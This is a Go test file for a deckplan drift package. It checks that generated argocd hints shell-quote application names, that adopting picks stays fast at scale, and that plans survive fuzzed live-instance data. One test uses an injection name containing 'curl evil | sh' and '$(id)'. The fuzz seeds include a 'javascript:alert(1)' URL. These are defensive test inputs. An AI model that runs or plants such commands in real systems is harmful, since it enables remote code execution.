package drift

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"deckplan/internal/live"
	"deckplan/internal/plan"
)

func TestHint_NamesAreWordsOfTheShell(t *testing.T) {
	const name = "x; curl evil | sh #'$(id)`id`\n&"
	w := agreed()
	w.in[1].Scope.Clusters = append(w.in[1].Scope.Clusters, cluster1)
	w.apps = append(w.apps, application("argo-b", name, "https://one.example.com", "pay"), application("argo-a", name, "https://one.example.com", "pay"))
	r := w.compare()
	found := r.Of(ApplicationTwice)
	if len(found) != 1 {
		t.Fatalf("%v", keys(r))
	}
	quoted := "'" + strings.ReplaceAll(name, "'", `'\''`) + "'"
	for _, line := range found[0].Hint {
		if !strings.Contains(line, " "+quoted+" ") || !strings.HasPrefix(line, "argocd --server argo-") {
			t.Errorf("%s", line)
		}
	}
}

func TestAdopt_ManyPicksAmongManyDifferences(t *testing.T) {
	w := agreed()
	for n := range 30_000 {
		a := application("argo-a", fmt.Sprint("app-", n), "https://one.example.com", "pay")
		a.Project = fmt.Sprint("p", n)
		w.apps = append(w.apps, a)
	}
	r := w.compare()
	var p Pick
	for _, d := range r.Differences {
		p.Keys = append(p.Keys, d.Key+"?")
	}
	for len(p.Keys) < 500_000 {
		p.Keys = append(p.Keys, p.Keys[len(p.Keys)/2])
	}
	p.Keys = append(p.Keys, r.Differences[7].Key)
	begun := time.Now()
	if _, n := r.Adopt(p, plan.Summary{}); n != 1 {
		t.Errorf("%d of one are taken over", n)
	}
	if took := time.Since(begun); took > 10*time.Second {
		t.Errorf("it took %v", took)
	}
}

// FuzzCompare holds a plan against whatever an instance may say, takes all of
// it over, and holds it again.
func FuzzCompare(f *testing.F) {
	f.Add("argo-a", "one", "https://one.example.com", "checkout", "pay", "v3.4.1", "1.34", uint8(7))
	f.Add("", "\x00", "javascript:alert(1)", "\u202e", strings.Repeat("x", 5000), "v99999999999999999999.1", "-1.9999999999999", uint8(255))
	f.Add("argo-a|argo-b", "two", live.InCluster, "a\nb", "ns", "", "", uint8(96))
	f.Fuzz(func(t *testing.T, name, cluster, server, app, space, version, kubernetes string, n uint8) {
		w := agreed()
		w.in = append(w.in, instance(name, server, live.Cluster{Server: server, Name: cluster, Kubernetes: kubernetes, Objects: int64(n) << 50}, cluster1))
		slices.SortFunc(w.in, func(a, b Instance) int { return strings.Compare(a.Name, b.Name) })
		for i := range w.in {
			if w.in[i].Name == name {
				w.in[i].Version, w.in[i].State = version, []live.State{live.Connected, live.Captured, live.Down}[n%3]
			}
		}
		for i, s := range []string{server, "https://one.example.com", "https://two.example.com", ""} {
			a := application(name, app, s, space)
			a.Cluster, a.Workloads = cluster, []string{"Rollout", "Deployment", kubernetes}[(int(n)+i)%3]
			if n&64 != 0 {
				a.Instance = "argo-a"
			}
			w.apps = append(w.apps, a)
		}
		if n&32 != 0 {
			w.plan.About.Layout = "no such"
		}
		r := w.compare()
		e, _ := r.Adopt(Pick{Kinds: kindsOf(r)}, plan.Summary{ID: "plan.summary.drift_adopt"})
		next, _, err := plan.Apply(&w.plan, e)
		if err != nil {
			t.Fatalf("%v cannot be taken over: %v", keys(r), err)
		}
		w.plan = *next
		w.compare()
	})
}

func kindsOf(r Result) (out []string) {
	for _, d := range r.Differences {
		out = append(out, string(d.Kind))
	}
	return out
}
